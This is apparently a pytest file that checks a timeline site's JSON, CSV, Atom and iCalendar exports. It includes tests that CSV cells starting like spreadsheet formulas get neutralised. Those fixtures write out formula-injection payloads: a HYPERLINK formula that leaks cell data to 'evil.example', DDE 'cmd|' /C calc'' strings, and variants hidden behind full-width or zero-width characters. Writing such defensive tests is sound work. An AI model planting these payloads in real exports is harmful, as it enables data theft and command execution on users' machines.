"""The exports, read back with real parsers from the built site: every event, valid, complete."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import hashlib
import io
import json
import re
import time
from pathlib import Path

import feedparser
import icalendar
import pytest
from jsonschema import Draft202012Validator

from conftest import SITE_URL, make_project, real_dataset
from timeline.data.model import Dataset
from timeline.rules.project import validate
from timeline.site.export import Exported, csv_cell, event_record, events_csv, events_json, ics_calendar
from timeline.site.info import SiteInfo

DATA = real_dataset()
IDS = [e.id for e in DATA.events]


@pytest.mark.build
def test_events_json_is_valid_against_its_schema_and_holds_every_event(built_site: Path):
    document = json.loads((built_site / "data" / "events.json").read_text(encoding="utf-8"))
    schema = json.loads((built_site / "data" / "events.schema.json").read_text(encoding="utf-8"))
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert [e.message for e in validator.iter_errors(document)] == []
    assert [e["id"] for e in document["events"]] == IDS and document["count"] == len(IDS)
    for event, record in zip(DATA.events, document["events"], strict=True):
        assert [c["quote"] for c in record["citations"]] == [c.quote for c in event.citations]
        assert record["details"] == event.details
        # The permalink is the event's own page, and the build wrote it.
        assert record["permalink"] == f"{SITE_URL}events/{event.id}/"
        assert (built_site / record["permalink"].removeprefix(SITE_URL) / "index.html").is_file()


@pytest.mark.build
def test_events_csv_has_one_row_per_event_with_its_citations(built_site: Path):
    with (built_site / "data" / "events.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["id"] for r in rows] == IDS
    for event, row in zip(DATA.events, rows, strict=True):
        assert [c["quote"] for c in json.loads(row["citations"])] == [c.quote for c in event.citations]
        assert row["date"] == event.date.text and row["title"] == event.title
        assert row["details"] == (event.details or "")


@pytest.mark.build
def test_the_atom_feed_parses_and_lists_every_event_newest_first(built_site: Path):
    feed = feedparser.parse((built_site / "feed.xml").read_bytes())
    assert feed.bozo == 0, feed.get("bozo_exception")
    assert feed.version == "atom10"
    entries = feed.entries
    # Newest first: the timeline's order reversed, so a date known only to its year comes
    # before that year's dated events here as it comes after them on the timeline.
    assert [e.id.rsplit(":", 1)[1] for e in entries] == IDS[::-1]
    by_id = {e.id.rsplit(":", 1)[1]: e for e in entries}
    for event in DATA.events:
        entry = by_id[event.id]
        assert entry.link == f"{SITE_URL}events/{event.id}/"
        assert event.citations[0].quote.split()[0] in entry.content[0].value


@pytest.mark.build
def test_the_calendar_parses_with_one_entry_per_event_within_its_dates(built_site: Path):
    calendar = icalendar.Calendar.from_ical((built_site / "events.ics").read_bytes())
    entries = {str(c["uid"]).split("@")[0]: c for c in calendar.walk("VEVENT")}
    assert list(entries) == IDS  # in the timeline's order, as the JSON and CSV exports
    for event in DATA.events:
        entry = entries[event.id]
        start, end = entry.decoded("dtstart"), entry.decoded("dtend")
        assert start < end
        first, last = event.date.iso_bounds()
        assert start.isoformat() == (first or last)
        if first and last:
            assert (end - dt.timedelta(days=1)).isoformat() == last
        assert str(entry["summary"]) == event.title


@pytest.mark.build
def test_feeds_and_data_are_announced_in_every_page_head_and_linked(built_site: Path):
    head = (built_site / "timeline" / "index.html").read_text().split("</head>")[0]
    assert '<link rel="alternate" type="application/atom+xml"' in head
    assert 'type="text/calendar"' in head
    # The theme fetches sitemap.xml beside each announced address: only root files are announced.
    assert not re.search(r'<link rel="alternate"[^>]*href="[^"]*data/', head)
    data_page = (built_site / "open-data" / "index.html").read_text()
    for href in ("../data/events.json", "../data/events.csv", "../feed.xml", "../events.ics"):
        assert f'href="{href}"' in data_page


def test_the_calendar_is_stamped_by_when_the_data_changed_so_the_same_data_gives_the_same_bytes(
    tmp_path: Path,
):
    """Each entry's DTSTAMP is the day its file last changed, else the data's last change,
    else (outside git) its own day: never the time of the build."""
    result = validate(make_project(tmp_path / "project"))
    assert result.dataset is not None, result.problems
    data = result.dataset
    first, *others = data.events
    site = SiteInfo(changed={first.path: "2024-03-05", "entities/cctv.yml": "2024-04-01"})
    made = ics_calendar(data, site)
    stamps = {e.id: c.decoded("dtstamp") for e, c in zip(data.events, _entries(data, site), strict=True)}
    assert stamps == {
        first.id: dt.datetime(2024, 3, 5, tzinfo=dt.UTC),
        **{e.id: dt.datetime(2024, 4, 1, tzinfo=dt.UTC) for e in others},
    }
    unknown = {
        e.id: c.decoded("dtstamp") for e, c in zip(data.events, _entries(data, SiteInfo()), strict=True)
    }
    assert unknown == {
        e.id: dt.datetime.combine(e.date.start.earliest, dt.time(), dt.UTC) for e in data.events
    }
    time.sleep(1.1)  # a stamp from the clock would have moved on
    assert ics_calendar(data, site) == made


def _entries(data: Dataset, site: SiteInfo) -> list[icalendar.Event]:
    return list(icalendar.Calendar.from_ical(ics_calendar(data, site)).walk("VEVENT"))


# What spreadsheets read as the start of a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0 was typed into the form"
FORMULA_PUBLISHER = '=HYPERLINK("https://evil.example/?"&A1,"Daily Tribune")'
FORMULA_EVENTS = {  # id: (title, summary, date_basis)
    "formula-a": (
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-1+1+cmd|' /C calc'!A0",
    ),
    "formula-b": ("@SUM(1+1)", "@SUM(1+1) in a summary", "@SUM(1+1) in a basis"),
}  # every number is the quote's: numbers in our own words must be
# The validator need not refuse a leading tab or carriage return: the export must not rely on it.
CONTROL_STARTS = {"formula-b": {"title": "\t=1+1", "summary": "\r=2+2 in a summary"}}


def formula_dataset(root: Path):
    """The fixture project plus two events whose every text starts like a formula; the
    source's publisher and a quote do too."""
    make_project(root)
    archive = root / "sources" / "tribune.txt"
    archive.write_bytes(archive.read_bytes() + f"\n{FORMULA_QUOTE}.\n".encode())
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    source = root / "sources" / "tribune.yml"
    text = source.read_text(encoding="utf-8")
    text = text.replace("publisher: Daily Tribune", f"publisher: {json.dumps(FORMULA_PUBLISHER)}")
    text = re.sub(r"(?m)^archive_sha256: .*$", f"archive_sha256: {digest}", text)  # the archive changed
    source.write_text(text, encoding="utf-8")
    for event_id, (title, summary, basis) in FORMULA_EVENTS.items():
        (root / "events" / f"{event_id}.yml").write_text(
            "# yaml-language-server: $schema=../schemas/event.schema.json\n"
            f'id: {event_id}\ntitle: {json.dumps(title)}\ndate: "2023-12"\n'
            f"date_basis: {json.dumps(basis)}\nsummary: {json.dumps(summary)}\n"
            "topics: [crackdown]\nentities: [cctv]\n"
            f"citations:\n  - source: tribune\n    quote: {json.dumps(FORMULA_QUOTE)}\n",
            encoding="utf-8",
        )
    result = validate(root)
    assert result.dataset is not None, result.problems
    data = result.dataset
    events = tuple(dataclasses.replace(e, **CONTROL_STARTS.get(e.id, {})) for e in data.events)
    return dataclasses.replace(data, events=events)


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path: Path):
    data = formula_dataset(tmp_path / "project")
    site = SiteInfo(site_url=SITE_URL)
    text = events_csv(data, site)
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(data.events) + 1
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert list(rows) == [e.id for e in data.events] and len(rows) == 5

    prefixed = set()
    for event in data.events:
        row = rows[event.id]
        for column in ("title", "summary", "date_basis"):
            raw = getattr(event, column)
            if event.id in FORMULA_EVENTS:
                assert raw.startswith(FORMULA_STARTS)
                assert row[column] == "'" + raw, (event.id, column)
                prefixed.add(raw[0])
            else:
                assert row[column] == raw, (event.id, column)
        ordinary = {
            "id": event.id,
            "date": event.date.text,
            "topics": ";".join(event.topics),
            "entities": ";".join(event.entities),
            "sources": ";".join(event.sources),
            "permalink": site.permalink(event.id),
        }
        assert {c: row[c] for c in ordinary} == ordinary
        assert not any(row[c].startswith("'") for c in row if c not in ("title", "summary", "date_basis"))
        # Quotes and publishers sit inside the citations' JSON, a cell that starts with "[":
        # they keep their exact text there.
        assert row["citations"].startswith("[")
        citations = json.loads(row["citations"])
        assert [c["quote"] for c in citations] == [c.quote for c in event.citations]
        assert {c["publisher"] for c in citations} == {FORMULA_PUBLISHER}
    assert prefixed == set(FORMULA_STARTS)
    assert FORMULA_QUOTE in text

    # Only the CSV is meant for spreadsheets: the JSON keeps every text as it is.
    titles = {e["id"]: e["title"] for e in json.loads(events_json(data, site))["events"]}
    assert titles == {e.id: e.title for e in data.events}


# Formulas behind what a spreadsheet skips or reads as plain "=", "+", "-" and "@".
DISGUISED_FORMULAS = [
    ' =HYPERLINK("https://evil.example/?"&A1,"Click")',
    "\u00a0\u2003=1+1",  # a no-break space and an em space
    "\u200b=1+1",  # a zero-width space
    "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(1+1)",
    " \t=1+1",
    "\ufe66" + "1+1",  # SMALL EQUALS SIGN
]


def test_csv_cells_with_a_formula_behind_spaces_or_in_full_width_start_with_a_quote(tmp_path: Path):
    """Each disguised formula as an event's title, as many at a time as there are events;
    the csv module reads every cell back as the text with a quote before it."""
    result = validate(make_project(tmp_path / "project"))
    assert result.dataset is not None, result.problems
    data, size = result.dataset, len(result.dataset.events)
    for start in range(0, len(DISGUISED_FORMULAS), size):
        titles = DISGUISED_FORMULAS[start : start + size]
        events = tuple(dataclasses.replace(e, title=t) for e, t in zip(data.events, titles, strict=False))
        text = events_csv(dataclasses.replace(data, events=events), SiteInfo())
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [row["title"] for row in rows[: len(titles)]] == ["'" + title for title in titles]


ORDINARY = ["a = b", "  plain text", "\u00a0Myanmar", "41,000 suspects", "'quoted'", "", "\u2212 5"]


@pytest.mark.parametrize("text", ORDINARY)
def test_csv_cells_that_start_with_no_formula_are_kept_exactly(text: str):
    assert csv_cell(text) == text


@pytest.mark.parametrize("site", [SiteInfo(), SiteInfo(site_url=SITE_URL)], ids=["local", "published"])
def test_the_exports_made_event_by_event_are_what_the_whole_document_writers_make(site: SiteInfo):
    """events.json and events.ics are put together from each event's part, which is kept
    between the preview's builds; the result is what json.dumps and icalendar write for
    the whole document."""
    records = [event_record(Exported.of(DATA, e, site)) for e in DATA.events]
    whole = {"$schema": "events.schema.json", "title": site.name, "count": len(records), "events": records}
    assert events_json(DATA, site) == json.dumps(whole, ensure_ascii=False, indent=1) + "\n"

    calendar = icalendar.Calendar()
    for name, value in (("prodid", f"-//{site.name}//EN"), ("version", "2.0"), ("x-wr-calname", site.name)):
        calendar.add(name, value)
    for event in icalendar.Calendar.from_ical(ics_calendar(DATA, site)).walk("VEVENT"):
        calendar.add_component(event)
    assert ics_calendar(DATA, site) == calendar.to_ical()
    assert len(calendar.subcomponents) == len(DATA.events)


def test_an_events_exported_part_follows_a_change_to_a_source_it_cites():
    """The parts are kept by everything they say: a source's new title reaches the events
    that cite it, and no other."""
    site = SiteInfo()
    source = DATA.events[0].citations[0].source
    renamed = {**DATA.sources, source: dataclasses.replace(DATA.sources[source], title="Zanzibarish")}
    changed = json.loads(events_json(dataclasses.replace(DATA, sources=renamed), site))["events"]
    cites = {e.id for e in DATA.events if source in e.sources}
    assert {e["id"] for e in changed if "Zanzibarish" in json.dumps(e)} == cites
